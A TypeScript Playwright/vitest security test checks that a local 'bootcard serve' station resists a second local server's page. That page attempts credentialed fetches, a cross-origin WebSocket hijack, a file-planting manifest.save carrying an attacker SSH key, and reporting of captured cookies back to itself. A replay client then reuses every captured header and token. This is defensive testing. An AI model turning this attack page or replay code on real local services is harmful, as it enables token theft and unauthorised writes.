/**
 * `bootcard serve` is opened by its token alone, tested the way the hole was
 * found: the operator's Debian Chromium opens the station; then a page of a
 * second local server, on another 127.0.0.1 port (any local user can run
 * one), tries every route a web page has: links and images and an iframe to
 * the station and to itself, fetch with and without CORS, a WebSocket to the
 * API, a form-like POST. Cookies are not bound to a port, so whatever the
 * browser attaches for 127.0.0.1 reaches that server; it records every
 * request it gets, and a plain `ws` client (not bound by any browser rule)
 * replays all of it (cookies, Referer, every value it saw) against the API.
 * Nothing gets in, the attacker never sees the token, and the manifest.save
 * it tries plants no file.
 */
import { existsSync, mkdtempSync, readdirSync, rmSync } from 'node:fs';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import os from 'node:os';
import path from 'node:path';
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import WebSocket from 'ws';
import { eepromFixture } from '../helpers/shared.js';
import { chromiumMissingReason, ensureRendererBuilt, launchChromium, startServeChild, type Browser, type ServeChild } from './setup.js';

const describeChromium: typeof describe = chromiumMissingReason ? (((name: string, fn: () => void) => describe.skip(`${name} (skipped: ${chromiumMissingReason})`, fn)) as typeof describe) : describe;

const FIRMWARE_DIR = path.dirname(eepromFixture('recovery-2711.bin'));
const POLL = { timeout: 30_000, interval: 100 } as const;

interface Recorded {
  readonly method: string;
  readonly url: string;
  readonly headers: http.IncomingHttpHeaders;
  readonly body: string;
}

const PLANTED = 'planted.json';

function manifestSave(id: string): string {
  const entry = { device: '/dev/sdb', cardSerial: null, recipe: 'uefi', config: 'ssh-ed25519 AAAA attacker', sha256: 'a'.repeat(64), time: '2026-12-01T00:00:00.000Z', ok: true, error: null };
  return JSON.stringify({ type: 'request', id, channel: 'manifest.save', payload: { path: PLANTED, format: 'json', entries: [entry] } });
}

/** The attacker's page: every route a web page has towards the station, then a report of what it could see. */
function attackPage(stationPort: number): string {
  const station = `http://127.0.0.1:${stationPort}`;
  return `<!doctype html><title>elsewhere</title>
<a id="to-self" href="/collect?via=link">a link to this server</a>
<a id="to-station" href="${station}/">a link to the station</a>
<img src="/pixel.png"><img src="${station}/"><img src="${station}/api"><img src="${station}/assets/">
<iframe id="frame" src="${station}/"></iframe>
<script>
(async () => {
  const out = {};
  const settle = (p, ms) => Promise.race([p, new Promise((r) => setTimeout(() => r('timeout'), ms))]);
  out.cookieVisibleHere = document.cookie;
  out.fetchCors = await fetch('${station}/', { credentials: 'include' }).then((r) => r.text().then((t) => 'read ' + t.length), () => 'blocked');
  out.fetchNoCors = await fetch('${station}/', { mode: 'no-cors', credentials: 'include' }).then((r) => r.type, () => 'error');
  out.postApi = await fetch('${station}/api', { method: 'POST', mode: 'no-cors', credentials: 'include', body: ${JSON.stringify(manifestSave('post'))} }).then((r) => r.type, () => 'error');
  await new Promise((r) => setTimeout(r, 500));
  try { out.frame = String(document.getElementById('frame').contentDocument?.body?.innerHTML ?? 'nothing'); } catch { out.frame = 'blocked'; }
  out.socket = await settle(new Promise((resolve) => {
    const ws = new WebSocket('ws://127.0.0.1:${stationPort}/api');
    ws.onopen = () => {
      ws.send(JSON.stringify({ type: 'auth', token: document.cookie }));
      ws.send(${JSON.stringify(manifestSave('ws'))});
    };
    ws.onmessage = (e) => resolve('answered ' + e.data);
    ws.onclose = (e) => resolve('closed ' + e.code);
  }), 15000);
  await fetch('/cookie-sink', { credentials: 'include' });
  await fetch('/report', { method: 'POST', body: JSON.stringify(out) });
})();
</script>`;
}

/** Every string in what the attacker received that could be a token: cookie values, query values, whole headers. */
function candidates(requests: readonly Recorded[]): string[] {
  const found = new Set<string>(['']);
  for (const r of requests) {
    for (const value of Object.values(r.headers)) for (const v of [value].flat()) if (v) found.add(v);
    for (const part of String(r.headers.cookie ?? '').split(';')) {
      const [, ...rest] = part.trim().split('=');
      found.add(rest.join('='));
    }
    for (const [, v] of new URL(r.url, 'http://x').searchParams) found.add(v);
    if (r.headers.referer) for (const [, v] of new URLSearchParams(new URL(String(r.headers.referer)).hash.slice(1))) found.add(v);
  }
  return [...found];
}

/** A plain ws client: sends the replayed headers and `token` as the auth message, then a manifest.save. */
function replay(server: ServeChild, headers: Record<string, string>, token: string): Promise<{ code: number; answers: string[] }> {
  return new Promise((resolve) => {
    const answers: string[] = [];
    const ws = new WebSocket(`ws://127.0.0.1:${server.port}/api`, { headers });
    ws.on('open', () => {
      ws.send(JSON.stringify({ type: 'auth', token }));
      ws.send(manifestSave('replay'));
    });
    // Let in: it answered (and would stay open), which is the failure this test looks for.
    ws.on('message', (d) => {
      answers.push(d.toString());
      resolve({ code: 0, answers });
      ws.terminate();
    });
    ws.on('unexpected-response', (_req, res) => {
      resolve({ code: res.statusCode ?? 0, answers });
      ws.terminate();
    });
    ws.on('close', (code) => resolve({ code, answers }));
    ws.on('error', () => undefined);
  });
}

describeChromium('a second local server cannot drive bootcard serve through the operator’s browser', () => {
  let dir: string;
  let server: ServeChild;
  let browser: Browser;
  let station: Page;
  let attacker: http.Server;
  let attackerOrigin: string;
  const received: Recorded[] = [];
  let report: Record<string, string> | null = null;

  beforeAll(async () => {
    ensureRendererBuilt();
    dir = mkdtempSync(path.join(os.tmpdir(), 'bootcard-attack-'));
    server = await startServeChild(['--output-dir', dir]);
    attacker = http.createServer((req, res) => {
      let body = '';
      req.setEncoding('utf8');
      req.on('data', (c: string) => (body += c));
      req.on('end', () => {
        received.push({ method: req.method ?? '', url: req.url ?? '', headers: req.headers, body });
        if (req.url === '/report') report = JSON.parse(body) as Record<string, string>;
        if (req.url === '/' || req.url?.startsWith('/collect')) {
          res.writeHead(200, { 'Content-Type': 'text/html; charset=utf-8' });
          res.end(attackPage(server.port));
        } else {
          res.writeHead(204);
          res.end();
        }
      });
    });
    await new Promise<void>((resolve) => attacker.listen(0, '127.0.0.1', () => resolve()));
    attackerOrigin = `http://127.0.0.1:${(attacker.address() as AddressInfo).port}`;
    browser = await launchChromium();
    station = browser.context.pages()[0] ?? (await browser.context.newPage());
  }, 180_000);

  afterAll(async () => {
    await browser?.close();
    await server?.stop();
    await new Promise<void>((resolve) => (attacker ? attacker.close(() => resolve()) : resolve()));
    if (dir) rmSync(dir, { recursive: true, force: true });
  });

  it('the operator’s station works, the token leaves the address bar, and an old serve’s cookie is dropped', async () => {
    // A cookie an older serve set, holding (the worst case) the token itself: the station tells the browser to forget it.
    await browser.context.addCookies([{ name: 'bootcard_token', value: server.token, domain: '127.0.0.1', path: '/', httpOnly: true, sameSite: 'Strict' }]);
    await station.goto(server.url);
    await station.getByRole('heading', { name: 'What do you want to make?' }).waitFor({ timeout: 60_000 });
    // Finding the firmware is a firmware.locate call over the socket: the page is authenticated.
    await station.getByRole('radio', { name: /EEPROM bootloader card/ }).check();
    await station.getByRole('radio', { name: /Pi 4 \/ Pi 400/ }).check();
    await station.getByRole('button', { name: 'Next' }).click();
    if (existsSync(FIRMWARE_DIR)) {
      await station.getByLabel(/Bootloader firmware/).fill(FIRMWARE_DIR);
      await station.getByTestId('firmware-found').waitFor({ timeout: 60_000 });
    } else console.warn(`[note] ${FIRMWARE_DIR} is missing: the station's own API call is not checked`);
    expect(station.url()).toBe(`${server.origin}/`);
    expect((await browser.context.cookies()).map((c) => c.name)).not.toContain('bootcard_token');
  }, 120_000);

  it('the attacker’s page, in another tab and in the station’s own tab, gets nothing', async () => {
    const tab = await browser.context.newPage();
    await tab.goto(`${attackerOrigin}/`);
    await expect.poll(() => report, POLL).not.toBeNull();
    const fromTab = report!;
    expect(fromTab.fetchCors).toBe('blocked');
    // X-Frame-Options: DENY leaves an error page, and another origin's document is out of reach anyway.
    expect(['blocked', 'nothing']).toContain(fromTab.frame);
    expect(fromTab.socket).toBe('closed 1006');
    // An ordinary link to the attacker's port, from its own page: the browser sends whatever it keeps for 127.0.0.1.
    await tab.click('#to-self');
    await expect.poll(() => received.some((r) => r.url === '/collect?via=link'), POLL).toBe(true);
    await tab.close();

    // The operator follows a link from the station to the attacker (the Referer would say where from).
    report = null;
    await station.evaluate(`location.href = ${JSON.stringify(`${attackerOrigin}/collect?via=station`)}`);
    await expect.poll(() => report, POLL).not.toBeNull();
    expect(report!.socket).toBe('closed 1006');

    const everything = JSON.stringify(received);
    expect(received.length).toBeGreaterThan(5);
    expect(everything).not.toContain(server.token);
    expect(received.some((r) => r.headers.cookie?.includes('bootcard_token'))).toBe(false);
    // The browser's own attempts at the socket were refused at the upgrade for their Origin.
    expect(server.log()).toMatch(new RegExp(`refused: WebSocket /api: foreign Origin ${attackerOrigin.replace(/\./g, '\\.')}`));
  }, 120_000);

  it('a plain ws client replaying everything the attacker received is refused, and nothing is written', async () => {
    const tokens = candidates(received);
    const headerSets: Record<string, string>[] = [{}];
    for (const r of received) {
      const h: Record<string, string> = {};
      for (const name of ['cookie', 'referer', 'user-agent', 'authorization']) if (typeof r.headers[name] === 'string') h[name] = r.headers[name] as string;
      headerSets.push(h, { ...h, origin: server.origin });
    }
    const outcomes = [];
    for (const headers of headerSets) outcomes.push(await replay(server, headers, ''));
    for (const token of tokens) outcomes.push(await replay(server, { origin: server.origin }, token));
    expect(outcomes.length).toBeGreaterThan(10);
    for (const o of outcomes) {
      expect(o.answers).toEqual([]);
      expect(o.code).toBe(4401);
    }
    expect(existsSync(path.join(dir, PLANTED))).toBe(false);
    expect(readdirSync(dir)).toEqual([]);
  }, 180_000);
});
